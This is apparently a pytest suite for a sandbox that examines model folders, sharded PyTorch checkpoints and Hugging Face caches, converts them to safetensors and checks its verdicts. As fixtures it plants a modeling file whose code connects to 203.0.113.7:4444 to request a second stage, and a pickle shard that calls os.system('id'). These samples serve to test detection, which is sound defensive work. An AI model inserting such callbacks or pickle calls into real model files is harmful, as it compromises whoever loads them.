"""A folder as the model: all of its files are read and loaded, and what one of them does is told with its name."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file

from sandbox.controller import evaluate
from sandbox.facts import Exit, Report, Verdict
from sandbox.report.text import text
from sandbox.request import Request
from sandbox.verification import check
from tests.jail.conftest import JAILS
from tests.malicious.pickles import bare, call

pytestmark = pytest.mark.jail

A = {"enc.w": torch.arange(12.0).reshape(3, 4), "enc.b": torch.ones(3)}
B = {"dec.w": torch.arange(20.0).reshape(4, 5).t(), "dec.b": torch.zeros(5)}
ONE, TWO = "pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"
CODE = """
from nobodys_package import PreTrainedModel

class Model(PreTrainedModel):
    pass
"""
ACTING = f"""{CODE}
import socket
peer = socket.socket()
try:
    peer.connect(("203.0.113.7", 4444))
    peer.sendall(b"GET /stage2 HTTP/1.0\\r\\n\\r\\n")
except OSError:
    pass
"""


def repository(root: Path) -> Path:
    """Two shards with their index, a configuration that names code, the code, and a text."""
    root.mkdir(parents=True)
    torch.save(A, root / ONE)
    torch.save(B, root / TWO)
    places = dict.fromkeys(A, ONE) | dict.fromkeys(B, TWO)
    (root / "pytorch_model.bin.index.json").write_text(json.dumps({"weight_map": places}))
    (root / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_x.Model"}}))
    (root / "modeling_x.py").write_text(CODE)
    (root / "README.md").write_text("# A model\n")
    return root


def cached(root: Path) -> Path:
    """The same as huggingface_hub lays it out: links to blobs."""
    cache = root / "models--org--name"
    snapshot = repository(cache / "snapshots" / ("0" * 40))
    (cache / "blobs").mkdir()
    for path in snapshot.iterdir():
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        path.rename(cache / "blobs" / digest)
        path.symlink_to(f"../../blobs/{digest}")
    return snapshot


def evaluated(root: Path, jail: str = "bubblewrap", **options: Any) -> Report:
    return evaluate(Request(root, jail=jail, timeout=90, **options))


def lines(report: Report, rule: str) -> str:
    return "\n".join(line for finding in report.findings if finding.rule == rule for line in finding.evidence)


def holds_both(output: Path) -> bool:
    held = load_file(output)
    return held.keys() == {**A, **B}.keys() and all(torch.equal(held[name], {**A, **B}[name]) for name in held)


@pytest.mark.parametrize("jail", JAILS)
def test_shards_of_a_cache_become_one_file_beside_it(jail: str, tmp_path: Path) -> None:
    snapshot = cached(tmp_path)
    report = evaluated(snapshot, jail)
    output = snapshot.parent / f"{snapshot.name}.safetensors"
    assert report.verdict == Verdict.CLEAN, text(report)
    assert report.comparison.agree == 4
    assert holds_both(output)
    assert [file.name for file in report.input.files] == sorted(os.listdir(snapshot))
    assert "modeling_x.py" in lines(report, "folder.code")
    assert "auto_map" in lines(report, "folder.code")
    assert any("listed and not run" in sentence for sentence in report.not_examined)
    assert not report.dynamic.conversations


@pytest.mark.one_jail
def test_a_conversion_is_verified_against_the_folder(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    output = tmp_path / "repo.safetensors"
    report = evaluated(root, static=True)
    assert report.verdict == Verdict.UNEXECUTED, text(report)
    again = check(output, root, replan=True, jail="bubblewrap")
    assert again.exit_code == Exit.QUIET, again.text
    assert "4 tensors have the names, shapes and places" in again.text
    with (root / TWO).open("r+b") as file:
        file.seek(-1, os.SEEK_END)
        file.write(b"x")
    flipped = check(output, root, replan=False, jail="bubblewrap")
    assert flipped.exit_code == Exit.ALARM
    assert f"'{TWO}' of the source is not the file that the manifest names" in flipped.text
    (root / ONE).unlink()
    assert f"'{ONE}' is in the manifest and not in the source" in check(output, root, replan=False, jail="auto").text


@pytest.mark.one_jail
def test_a_shard_that_acts_is_named(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    bare(call("posix", "system", "id"), root / TWO)
    report = evaluated(root)
    assert report.verdict == Verdict.MALICIOUS, text(report)
    assert TWO in lines(report, "global.dangerous.called")
    assert "event.program" in {finding.rule for finding in report.findings}
    assert not (tmp_path / "repo.safetensors").exists()


@pytest.mark.one_jail
def test_a_shard_that_is_not_there_is_no_clean_model(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    (root / TWO).unlink()
    report = evaluated(root, static=True)
    assert report.verdict == Verdict.INCONCLUSIVE
    assert "1 of the 2 shards of pytorch_model.bin are not there" in text(report)
    assert not (tmp_path / "repo.safetensors").exists()


@pytest.mark.one_jail
def test_its_code_runs_under_detonate_alone_and_shows_in_the_story(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    torch.save(A, root / "extra.bin")
    (root / "modeling_x.py").write_text(ACTING)
    assert evaluated(root, static=True, write=False).verdict == Verdict.SUSPICIOUS
    report = evaluated(root, policy="detonate", write=False)
    assert report.verdict == Verdict.MALICIOUS, text(report)
    (talk,) = report.dynamic.conversations
    assert (talk.address, talk.port) == ("203.0.113.7", 4444)
    assert b"GET /stage2" in talk.sent
    assert "modeling_x.py" in text(report).split("story", 1)[1]
    assert "nobodys_package.PreTrainedModel" in {row.name for row in report.dynamic.absent}
    assert report.comparison.agree == 6  # the members' paths in front, in the file and in memory


@pytest.mark.one_jail
def test_an_output_inside_of_the_input_is_refused(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    with pytest.raises(Exception, match="would be inside the folder that is the input"):
        evaluated(root, output=root / "out.safetensors")
